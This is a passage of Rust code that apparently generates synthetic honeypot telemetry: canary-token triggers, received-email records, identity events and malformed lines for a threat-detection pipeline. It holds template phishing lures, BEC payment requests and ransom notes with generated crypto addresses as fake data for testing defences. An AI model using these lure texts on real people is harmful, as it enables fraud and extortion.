            p.strs("providers", ["abuseipdb", "greynoise", "feodo", "threatfox"]);
            intel.write_threatfox(p);
        });
    }

    fn canary(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        let u = self.rng.unit();
        let token = fleet.tokens[((u * u * fleet.tokens.len() as f64) as usize).min(fleet.tokens.len() - 1)].as_str();
        let decky = self.decky();
        let action = self.rng.below(1000);
        if action >= 960 {
            let i = self.known_attacker();
            let action = if action < 985 { "placed" } else { "revoked" };
            self.emit(out, format_args!("canary.{token}.{action}"), action, |_, p| {
                p.str("attacker_ip", fleet.attacker_ip(i).as_str())
                    .str("attacker_uuid", fleet.attacker_uuid(i).as_str());
                p.fmt("decky_name", format_args!("decky-{decky:02}")).str("token_id", token);
            });
            return;
        }
        let actor = self.actor();
        let rng = &mut self.rng;
        let trigger = rng.next_u64() & 0xff_ffff_ffff;
        let ua = rng.pick(COMMON_UAS);
        if rng.chance(400) {
            let dns = rng.chance(100).then(|| rng.next_u64() & 0xffff_ffff);
            self.emit(out, format_args!("canary.{token}.triggered"), "", |_, p| {
                p.fmt("decky_name", format_args!("decky-{decky:02}"));
                match dns {
                    Some(d) => p.fmt("dns_qname", format_args!("{d:08x}.{}.canary.example", &token[token.len() - 8..])),
                    None => p.null("dns_qname"),
                };
                p.fmt("request_path", format_args!("/c/{}", &token[token.len() - 8..]));
                p.str("src_ip", actor.ip.as_str()).str("token_id", token);
                p.fmt("trigger_id", format_args!("trig-{trigger:010x}")).str("user_agent", ua);
            });
            return;
        }
        // A trigger from the canary page, with the browser fingerprint it computed.
        let automation =
            rng.chance(300).then(|| rng.pick(&["puppeteer", "playwright", "selenium", "curl_impersonate", "firefox"]));
        let flags = [rng.chance(180), rng.chance(270), rng.chance(100), rng.chance(90), rng.chance(160)];
        let zones = rng.pick(&[0, 1, 2, 3, 7]);
        let signature = rng.pick(&["HeadlessChrome/124", "python-requests", "Mozilla/5.0"]);
        self.emit(out, format_args!("canary.{token}.triggered"), "", |_, p| {
            p.str("attacker_ip", actor.ip.as_str());
            if let Some(tool) = automation {
                p.str("canvas_audio_hash_match", tool);
            }
            p.fmt("decky_name", format_args!("decky-{decky:02}")).bool("lang_country_mismatch", flags[0]);
            p.bool("navigator_webdriver", flags[1]).bool("platform_ua_inconsistent", flags[2]);
            p.str("src_ip", actor.ip.as_str()).str("token_id", token);
            p.fmt("trigger_id", format_args!("trig-{trigger:010x}")).u64("tz_mismatch_zones", zones);
            p.str("ua_signature", signature).bool("ua_webgl_mismatch", flags[3]).str("user_agent", ua);
            p.bool("webrtc_geo_mismatch", flags[4]);
        });
    }

    fn email(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let fleet = self.fleet;
        let style = &fleet.styles[actor.style];
        let mail = &style.email;
        let rng = &mut self.rng;
        let kind = [
            Mail::Phish,
            Mail::Phish,
            Mail::Phish,
            Mail::Malware,
            Mail::Malware,
            Mail::Bec,
            Mail::Bec,
            Mail::RelayProbe,
            Mail::Extortion,
            Mail::Encoded,
            Mail::Spam,
            Mail::Spam,
        ][rng.below(12) as usize];
        let blast = kind != Mail::Spam && kind != Mail::RelayProbe && rng.chance(200);
        let rcpt = match kind {
            Mail::RelayProbe => rng.range(20, 80),
            _ if blast => rng.range(25, 140),
            _ => rng.range(1, 6),
        };
        let attachments: u64 = match kind {
            Mail::Malware => rng.range(1, 3),
            Mail::Phish if rng.chance(200) => 1,
            _ => 0,
        };
        let ext = if kind == Mail::Malware { mail.attachment } else { "pdf" };
        let with_body = match kind {
            Mail::Bec => rng.chance(700),
            Mail::Extortion => rng.chance(800),
            Mail::Encoded => true,
            Mail::RelayProbe => false,
            _ => rng.chance(250),
        };
        self.text.clear();
        if with_body {
            write_body(&mut self.text, rng, kind, style);
        }
        let spam = kind == Mail::Spam;
        let dkim = if spam { Some(true) } else { rng.pick(&[Some(true), Some(false), None]) };
        let spf = spam || rng.chance(300);
        let from = if spam {
            rng.pick(&["news.example.com", "shop.example.org", "events.example.net"])
        } else {
            mail.from_domain
        };
        let mail_from = if spam { from.to_string() } else { mail.mail_from_domain.clone() };
        let simhash = match kind {
            Mail::RelayProbe => None,
            _ if blast || rng.chance(500) => Some(mail.simhash.clone()),
            _ => rng.chance(500).then(|| format!("{:016x}", rng.next_u64())),
        };
        let kit = mail.kit.filter(|_| rng.chance(700));
        let kit_flag_only = kit.is_some() && rng.chance(250);
        let mal_hash = kind == Mail::Malware && rng.chance(150);
        let base64_bytes = if kind == Mail::Encoded { rng.range(9000, 60_000) } else { rng.range(0, 5000) };
        let subject = subject(kind, mail.subject + rng.below(2) as usize);
        let decky = rng.range(1, DECKIES + 1);
        let msg = rng.next_u64() & 0xffff_ffff;
        let (h1, h2, h3, h4) = (rng.next_u64(), rng.next_u64(), rng.next_u64(), rng.next_u64());
        let rcpt_domains = rng.range(1, 4) as usize;
        let url_id = rng.next_u64() & 0xff_ffff;
        let seq = self.seq;
        self.emit(out, format_args!("email.received"), "email.received", |g, p| {
            p.u64("attachment_count", attachments);
            p.strs("attachment_extensions", (0..attachments).map(|_| ext));
            p.bool("attachment_macros", attachments > 0 && matches!(ext, "docm" | "xlsm"));
            p.bool("attachment_password_protected", attachments > 0 && ext == "zip");
            let mut hashes = p.arr("attachment_sha256s");
            for k in 0..attachments {
                hashes.fmt(format_args!("{:016x}{h2:016x}{h3:016x}{:016x}", h1 ^ k, h4 ^ k));
            }
            hashes.close();
            p.str("attacker_ip", actor.ip.as_str()).null("attacker_uuid");
            p.u64("body_base64_bytes", base64_bytes);
            if kind == Mail::RelayProbe {
                p.str("body_sha256", "");
            } else {
                p.fmt("body_sha256", format_args!("{h4:016x}{h3:016x}{h2:016x}{h1:016x}"));
            }
            p.str("body_simhash", simhash.as_deref().unwrap_or(""));
            if with_body {
                p.str("body_text", &g.text);
            }
            p.fmt("decky_id", format_args!("decky-{decky:02}"));
            match dkim {
                Some(d) => p.bool("dkim_signed", d),
                None => p.null("dkim_signed"),
            };
            p.str("from_domain", from).bool("html_smuggling", attachments > 0 && ext == "html");
            p.str("mail_from_domain", &mail_from);
            if mal_hash {
                p.bool("mal_hash_match", true);
            }
            if let (Some(k), false) = (kit, kit_flag_only) {
                p.str("matched_kit", k);
            }
            p.u64("rcpt_count", rcpt);
            p.strs("rcpt_domains", ["victim.example", "corp.example", "mail.example"][..rcpt_domains].iter().copied());
            p.str("return_path_domain", &mail_from).str("service", "smtp");
            p.fmt("source_id", format_args!("msg-{seq:08}-{msg:08x}.eml")).bool("spf_pass", spf);
            p.fmt("stored_as", format_args!("{seq:08}-{msg:08x}.eml")).str("subject", subject);
            let mut urls = p.arr("urls");
            if kind == Mail::Phish {
                urls.fmt(format_args!("https://{}/auth/{url_id:06x}?session=verify", mail.link_host));
            }
            urls.close();
            p.opt_str("x_mailer", if spam { None } else { mail.x_mailer });
            if kit_flag_only {
                p.bool("xmailer_kit_match", true);
            }
        });
    }

    // ---- identities ---------------------------------------------------------------

    fn formed(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        let j = self.rng.below(fleet.identities);
        let observations = self.rng.range(2, 9);
        let seed = self.rng.next_u64();
        let spraying = self.rng.chance(500).then(|| (self.rng.range(2, 9), self.rng.next_u64(), self.rng.next_u64()));
        self.emit(out, format_args!("identity.formed"), "formed", |_, p| {
            if let Some((accounts, ..)) = spraying {
                p.u64("account_count", accounts);
                if let Some(c) = fleet.identity_campaign(j) {
                    p.str("campaign_uuid", fleet.campaign_uuid(c).as_str());
                }
            }
            p.str("identity_uuid", fleet.identity_uuid(j).as_str());
            let mut arr = p.arr("observation_uuids");
            for k in 0..observations {
                arr.fmt(format_args!("obs-{:08x}", super::rng::mix(seed ^ k) >> 32));
            }
            arr.close();
            if let Some((_, a, b)) = spraying {
                p.fmt("shared_password_hash", format_args!("{a:016x}{b:016x}{:016x}{:016x}", a ^ b, !a));
            }
        });
    }

    fn merged(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        let Some((loser, winner)) = fleet.merge_pair(&mut self.rng) else {
            return self.formed(out);
        };
        let detail = self.rng.chance(500).then(|| (self.rng.range(2, 6), self.rng.next_u64(), self.rng.next_u64()));
        self.emit(out, format_args!("identity.merged"), "merged", |_, p| {
            let winner = fleet.identity_uuid(winner);
            if let Some((accounts, ..)) = detail {
                p.u64("account_count", accounts).str("identity_uuid", winner.as_str());
            }
            p.str("loser_uuid", fleet.identity_uuid(loser).as_str());
            if let Some((_, a, b)) = detail {
                p.fmt("shared_password_hash", format_args!("{a:016x}{b:016x}{:016x}{:016x}", b ^ a, !b));
            }
            p.str("winner_uuid", winner.as_str());
        });
    }

    /// Half detach an attacker from its identity (DECNET's shape), half undo a merge.
    fn unmerged(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        if self.rng.chance(500) {
            if let Some((loser, _)) = fleet.merge_pair(&mut self.rng) {
                self.emit(out, format_args!("identity.unmerged"), "unmerged", |_, p| {
                    p.str("loser_uuid", fleet.identity_uuid(loser).as_str());
                });
                return;
            }
        }
        let i = self.known_attacker();
        self.emit(out, format_args!("identity.unmerged"), "unmerged", |_, p| {
            p.str("attacker_ip", fleet.attacker_ip(i).as_str()).str("attacker_uuid", fleet.attacker_uuid(i).as_str());
        });
    }

    /// An attacker linked (back) to its identity.
    fn linked(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        let i = self.known_attacker();
        let j = fleet.identity_of(i).unwrap_or_else(|| self.rng.below(fleet.identities));
        let observation = self.rng.next_u64() >> 32;
        self.emit(out, format_args!("identity.observation.linked"), "observation.linked", |_, p| {
            p.str("attacker_uuid", fleet.attacker_uuid(i).as_str())
                .str("identity_uuid", fleet.identity_uuid(j).as_str());
            p.fmt("observation_uuid", format_args!("obs-{observation:08x}"));
        });
    }

    /// An identity (re)assigned to its campaign.
    fn campaign_assigned(&mut self, out: &mut Vec<u8>) {
        let fleet = self.fleet;
        let j = self.rng.below(fleet.identities);
        let c = fleet.identity_campaign(j).unwrap_or_else(|| self.rng.below(fleet.campaigns));
        self.emit(out, format_args!("identity.campaign.assigned"), "campaign.assigned", |_, p| {
            p.str("campaign_uuid", fleet.campaign_uuid(c).as_str())
                .str("identity_uuid", fleet.identity_uuid(j).as_str());
        });
    }

    // ---- malformed ----------------------------------------------------------------

    /// One bad line of four kinds in turn of chance: cut-off JSON, an unconsumed topic,
    /// an address of the wrong type, an envelope without payload.
    fn malformed(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        self.orphan = false;
        let start = out.len();
        match self.rng.below(4) {
            0 => {
                self.observed(out);
                let cut = start + (out.len() - start) / 2;
                out.truncate(cut);
            }
            1 => self.emit(out, format_args!("system.ttp.health"), "health", |_, p| {
                p.str("attacker_ip", actor.ip.as_str()).null("attacker_uuid");
            }),
            2 => {
                let number = self.rng.below(1 << 32);
                self.emit(out, format_args!("attacker.observed"), "observed", |g, p| {
                    p.u64("attacker_ip", number).time("first_seen", g.now);
                });
            }
            _ => {
                let mut env = Obj::open(out);
                env.u64("v", 1).str("topic", "attacker.session.ended").str("type", "session.ended");
                env.epoch_seconds("ts", self.now);
                env.close();
            }
        }
        self.orphan = false;
    }
}

/// Kinds of mail.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Mail {
    Phish,
    Malware,
    Bec,
    RelayProbe,
    Extortion,
    Encoded,
    Spam,
}

fn subject(kind: Mail, k: usize) -> &'static str {
    let subjects: &[&str] = match kind {
        Mail::Phish => &[
            "Action required: verify your account",
            "Your mailbox is almost full",
            "Unusual sign-in activity",
            "Shared document: Q1 review",
            "Your parcel is waiting for delivery",
            "Password expires today",
        ],
        Mail::Malware => {
            &["Invoice attached", "Scanned document", "Purchase order 4471", "Updated contract", "Voicemail message"]
        }
        Mail::Bec => &[
            "Urgent wire transfer needed today",
            "Payroll change request",
            "Gift card request for the team",
            "Payment confirmation required",
            "New bank details for invoice 8812",
            "Urgent: confidential acquisition",
        ],
        Mail::RelayProbe => &["test", "relay test", "hello", ""],
        Mail::Extortion => &["Your data has been copied", "Final notice", "We have access to your servers"],
        Mail::Encoded => &["Document", "Fwd: files", "Re: request"],
        Mail::Spam => &["Weekly newsletter", "Spring sale: 30% off", "Your subscription summary", "Event invitation"],
    };
    subjects[k % subjects.len()]
}

fn write_body(out: &mut String, rng: &mut Rng, kind: Mail, style: &Style) {
    let _ = match kind {
        Mail::Phish => out.write_str(
            "Dear user, we detected unusual activity on your account. Please verify your details within \
             24 hours using the secure link below.",
        ),
        Mail::Malware => out.write_str("Please see the attached file and confirm receipt."),
        Mail::Bec => out.write_str(
            [
                "I need you to process a wire transfer today, keep this confidential until the deal closes.",
                "Please update banking details for my payroll before the next run.",
                "Can you send me the gift card codes? I am in a meeting and cannot talk.",
                "Transfer the outstanding amount to the new account below and confirm when done.",
            ][style.email.body % 4],
        ),
        Mail::Extortion => {
            let note = ransom_note(rng, style);
            out.write_str(&note)
        }
        Mail::Encoded => {
            let _ = out.write_str("Please find the document below.\n\n");
            for _ in 0..160 {
                out.push(char::from(rng.pick(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")));
            }
            out.write_str("==")
        }
        Mail::Spam => out.write_str(
            "This week: product updates, a webinar invitation and our spring sale. Unsubscribe at any time.",
        ),
        Mail::RelayProbe => Ok(()),
    };
}

/// A ransom or extortion note, mostly with a payment address (Bitcoin or the campaign's
/// Monero wallet), sometimes without one.
fn ransom_note(rng: &mut Rng, style: &Style) -> String {
    match rng.below(4) {
        0 => format!(
            "Your databases were encrypted and copied to our servers. To recover your data send 0.3 XMR (monero) \
             to {} and write to the contact in README.",
            style.wallet
        ),
        1 => "All files are encrypted. Contact support to get them back.".to_string(),
        2 => {
            const BECH32: &[u8] = b"qpzry9x8gf2tvdw0s3jn54khce6mua7l";
            let address: String = (0..38).map(|_| char::from(rng.pick(BECH32))).collect();
            format!("We have downloaded your data. Pay 0.08 bitcoin to bc1q{address} within 72 hours to decrypt it.")
        }
        _ => {
            let address: String = (0..33).map(|_| char::from(rng.pick(BASE58))).collect();
            format!(
                "Your files are locked. Send 0.05 BTC to 1{address} to receive the key. Ransom doubles in 48 hours."
            )
        }
    }
}
